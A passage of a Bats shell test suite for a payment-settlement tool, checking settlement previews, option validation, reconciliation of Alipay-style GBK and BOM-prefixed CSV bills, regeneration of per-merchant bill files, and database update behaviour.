2026-11-21 1 0 $((-6000 + 36)) $((1000 - 6 - 6000 + 36)) 0 $((1000 - 6 - 6000 + 36))
2026-11-22 1 0 $((1000 - 6 - 6000 + 36)) $((2000 - 12 + 1000 - 6 - 6000 + 36)) 0 $((2000 - 12 + 1000 - 6 - 6000 + 36))"
	settle_as_foretold "$BATS_TEST_TMPDIR/forecast"
	assert_ledger_ok
}

@test "--preview of a day not yet settled is what settle does for it; the next date follows on" {
	wpay-bind merchant deposit cafe01 --amount 20000.00 --request-no d1 >/dev/null
	wpay-bind merchant update cafe01 --kind enterprise --verified --settlement T0 >/dev/null
	pay cafe01 o1 50.00
	export WPAY_NOW=2026-10-21T02:00:00Z
	pay cafe01 o2 30.00
	# 21 Oct is not settled yet: the forecast starts there.
	run --separate-stderr wpay-settle --preview
	assert_equal "$(jq -r '[.date, .gross] | join(" ")' <<<"$output")" "2026-10-21 5000
2026-10-22 3000"
	wpay-settle >/dev/null
	run --separate-stderr wpay-settle --preview
	assert_equal "$(jq -r '[.date, .gross] | join(" ")' <<<"$output")" "2026-10-22 3000"
	echo "$output" >"$BATS_TEST_TMPDIR/forecast"
	settle_as_foretold "$BATS_TEST_TMPDIR/forecast"
}

@test "--preview refuses what it cannot do: other modes' options, an unknown merchant, bad dates" {
	pay cafe01 o1 50.00
	before=$(ledger_digest)
	for args in "--preview --out $BATS_TEST_TMPDIR/out" "--preview --dry-run" "--preview --batch-size 2" \
		"--preview --reconcile x.csv --merchant cafe01" "--preview --date 2026-13-01" "--preview --date tomorrow" \
		"--preview --date 2026-02-30" "--merchant cafe01" "--preview extra"; do
		# shellcheck disable=SC2086
		run --separate-stderr wpay-settle $args
		[ "$status" -eq 64 ] || { echo "wpay-settle $args: $status $stderr"; false; }
		assert_output ""
	done
	run --separate-stderr wpay-settle --preview --merchant nosuch
	assert_failure 65
	[[ "$stderr" == *nosuch* ]]
	assert_output ""
	[ ! -e "$BATS_TEST_TMPDIR/out" ]
	assert_equal "$(ledger_digest)" "$before"
}

@test "reconcile reads what accountants have: Alipay's Chinese headers, comments, GBK, a BOM, CRLF, padded fields" {
	pay cafe01 o1 100.00
	pay cafe01 o2 20.00
	wpay-refund cafe01 o2 r1 --amount 5.00 >/dev/null
	# An Alipay trade bill (业务明细): comment lines, fields padded with a tab,
	# a refund line, the fee negative, CRLF line ends; in GBK, told from its bytes.
	printf '%s\r\n' "#支付宝业务明细查询" "#账号：[20880000]" \
		"支付宝交易号,商户订单号,业务类型,商品名称,创建时间,完成时间,订单金额（元）,商家实收（元）,退款批次号/请求号,服务费（元）,备注" \
		"2026102022001	,o1	,交易,咖啡,2026-10-20 10:00:00,2026-10-20 10:00:01,100.00,100.00,,-0.60," \
		"2026102022002	,o2	,交易,拿铁,2026-10-20 10:00:00,2026-10-20 10:00:01,20.00,20.00,,-0.12," \
		"2026102022002	,o2	,退款,拿铁,2026-10-20 10:00:00,2026-10-20 10:00:01,-5.00,-5.00,r1,0.03," \
		"#业务明细列表结束" | iconv -f UTF-8 -t GBK >"$BATS_TEST_TMPDIR/alipay.csv"
	run --separate-stderr wpay-settle --reconcile "$BATS_TEST_TMPDIR/alipay.csv" --merchant cafe01
	assert_success
	assert_equal "$(jq -c '[.compared, .differences]' <<<"$output")" '[2,0]'
	run --separate-stderr wpay-settle --reconcile "$BATS_TEST_TMPDIR/alipay.csv" --merchant cafe01 --encoding gb18030
	assert_success
	# Read as UTF-8 it is refused, naming the line.
	run --separate-stderr wpay-settle --reconcile "$BATS_TEST_TMPDIR/alipay.csv" --merchant cafe01 --encoding utf-8
	assert_failure 65
	[[ "$stderr" == *"alipay.csv:1 is not UTF-8"* ]]
	# UTF-8 with a BOM and CRLF, our own names, a status.
	printf '\xef\xbb\xbfout_trade_no,amount,status,fee\r\no1,100.00,TRADE_SUCCESS,0.60\r\no2,20.00,paid,0.12\r\n' \
		>"$BATS_TEST_TMPDIR/bom.csv"
	run --separate-stderr wpay-settle --reconcile "$BATS_TEST_TMPDIR/bom.csv" --merchant cafe01
	assert_success
	assert_equal "$(jq -c '[.compared, .differences]' <<<"$output")" '[2,0]'
	# Bytes that are neither.
	printf 'out_trade_no,amount\n\xff\xfe,1.00\n' >"$BATS_TEST_TMPDIR/junk.csv"
	run --separate-stderr wpay-settle --reconcile "$BATS_TEST_TMPDIR/junk.csv" --merchant cafe01
	assert_failure 65
	[[ "$stderr" == *"junk.csv:2 is not gb18030 text"* ]]
}

@test "reconcile by trade date or by settlement date (--date is the settlement's); bad combinations refused" {
	pay cafe01 o1 100.00
	export WPAY_NOW=2026-10-21T02:00:00Z
	pay cafe01 o2 20.00
	printf 'out_trade_no,amount\no1,100.00\n' >"$BATS_TEST_TMPDIR/o1.csv"
	run --separate-stderr wpay-settle --reconcile "$BATS_TEST_TMPDIR/o1.csv" --merchant cafe01 --trade-date 2026-10-20
	assert_success
	run --separate-stderr wpay-settle --reconcile "$BATS_TEST_TMPDIR/o1.csv" --merchant cafe01 --trade-date 2026-10-21
	assert_failure 1
	export WPAY_NOW=2026-11-05T01:00:00Z
	wpay-settle --date 2026-11-05 >/dev/null
	run --separate-stderr wpay-settle --reconcile "$BATS_TEST_TMPDIR/o1.csv" --merchant cafe01 --settle-date 2026-11-05
	assert_success
	assert_equal "$(jq -c '[.date, .trade_date, .compared]' <<<"$output")" '["2026-11-05",null,1]'
	run --separate-stderr wpay-settle --reconcile "$BATS_TEST_TMPDIR/o1.csv" --merchant cafe01 --date 2026-11-05
	assert_success
	for args in "--trade-date 2026-02-30" "--settle-date 2026-13-01" "--trade-date x" \
		"--trade-date 2026-10-20 --settle-date 2026-11-05" "--date 2026-11-05 --settle-date 2026-11-05" \
		"--encoding latin1"; do
		run --separate-stderr wpay-settle --reconcile "$BATS_TEST_TMPDIR/o1.csv" --merchant cafe01 $args
		assert_failure 64
	done
	run --separate-stderr wpay-settle --trade-date 2026-10-20
	assert_failure 64
}

@test "--out: bills written again one by one (a few deleted) are the bytes the one pass wrote" {
	for i in $(seq -w 1 21); do
		wpay-bind merchant add "m$i" --name "Shop $i" --city Beijing >/dev/null
		wpay-bind merchant approve "m$i" >/dev/null
		pay "m$i" "o$i" "$((10#$i + 10)).00"
	done
	export WPAY_NOW=2026-10-20T03:00:00Z
	pay m01 o99 2.00
	export WPAY_NOW=2026-10-20T02:30:00Z # a refund before o99: still after the payments
	wpay-refund m01 o01 r1 --amount 1.00 >/dev/null
	export WPAY_NOW=2026-11-05T01:00:00Z
	out="$BATS_TEST_TMPDIR/out"
	wpay-settle --out "$out" >/dev/null
	assert_equal "$(ls "$out" | grep -c '^bill-')" 21
	cp "$out/bill-2026-11-05-m01.csv" "$BATS_TEST_TMPDIR/m01.csv"
	cp "$out/bill-2026-11-05-m21.csv" "$BATS_TEST_TMPDIR/m21.csv"
	# One of 21 missing: written from its own settlement's query.
	rm "$out/bill-2026-11-05-m01.csv"
	wpay-settle --out "$out" >/dev/null
	cmp "$out/bill-2026-11-05-m01.csv" "$BATS_TEST_TMPDIR/m01.csv"
	# Payments, then refunds, each in time order; the total sums them.
	assert_equal "$(cut -d, -f3,6,7 "$out/bill-2026-11-05-m01.csv" | sed -n '2,4p' | tr '\n' ' ')" \
		"o01,payment,11.00 o99,payment,2.00 o01,refund,-1.00 "
	assert_equal "$(awk -F, '$6 == "total" { print $7 }' "$out/bill-2026-11-05-m01.csv")" 12.00
	# All missing: the one pass again.
	rm "$out"/bill-*
	wpay-settle --out "$out" >/dev/null
	cmp "$out/bill-2026-11-05-m01.csv" "$BATS_TEST_TMPDIR/m01.csv"
	cmp "$out/bill-2026-11-05-m21.csv" "$BATS_TEST_TMPDIR/m21.csv"
}

@test "marking payments settled touches no index of payments: they leave a queue, and the settlement bounds their ids" {
	# No index of payments names the mark (PostgreSQL: so the mark is a HOT update).
	if db_is_pg; then
		assert_equal "$(db_sql "SELECT count(*) FROM pg_indexes WHERE tablename = 'payments'
			AND indexdef LIKE '%settlement_id%'")" 0
	else
		assert_equal "$(db_sql "SELECT count(*) FROM sqlite_master WHERE type = 'index' AND tbl_name = 'payments'
			AND sql LIKE '%settlement_id%'")" 0
	fi
	pay cafe01 o1 10.00
	pay shop02 s1 20.00
	pay cafe01 o2 30.00
	export WPAY_NOW=2026-10-21T02:00:00Z
	pay cafe01 o3 40.00 # after the cut-off of 5 Nov's T15 settlement: stays queued
	assert_equal "$(db_sql 'SELECT count(*) FROM payments_due')" 4
	export WPAY_NOW=2026-11-05T01:00:00Z
	run --separate-stderr wpay-settle --date 2026-11-05
	assert_success
	assert_equal "$(jq -s -c 'map([.merchant, .payments])' <<<"$output")" '[["m:cafe01",2],["m:shop02",1]]'
	assert_equal "$(db_sql "SELECT p.order_id FROM payments_due d JOIN payments p ON p.id = d.payment_id")" \
		"$(db_sql "SELECT id FROM orders WHERE out_trade_no = 'o3'")"
	assert_equal "$(db_sql "$unqueued")" 0
	assert_equal "$(db_sql "SELECT count(*) FROM payments p JOIN settlements s ON $settled_payments")" 3
	assert_equal "$(db_sql "SELECT count(*) FROM settlements s WHERE first_payment = (SELECT MIN(id) FROM payments
		WHERE settlement_id = s.id) AND last_payment = (SELECT MAX(id) FROM payments WHERE settlement_id = s.id)")" 2
	if db_is_pg; then
		# Its statistics reach the server as the program ends: every update was HOT.
		assert_equal "$(db_sql "SELECT n_tup_upd, n_tup_hot_upd FROM pg_stat_user_tables WHERE relname = 'payments'")" \
			"3|3"
	fi
	# The bill of a settlement finds its payments by those ids.
	run --separate-stderr wpay-settle --date 2026-11-05 --out "$BATS_TEST_TMPDIR/out"
	assert_success
	assert_equal "$(awk -F, '$6 == "payment"' "$BATS_TEST_TMPDIR/out/bill-2026-11-05-cafe01.csv" | wc -l)" 2
	assert_ledger_ok
}
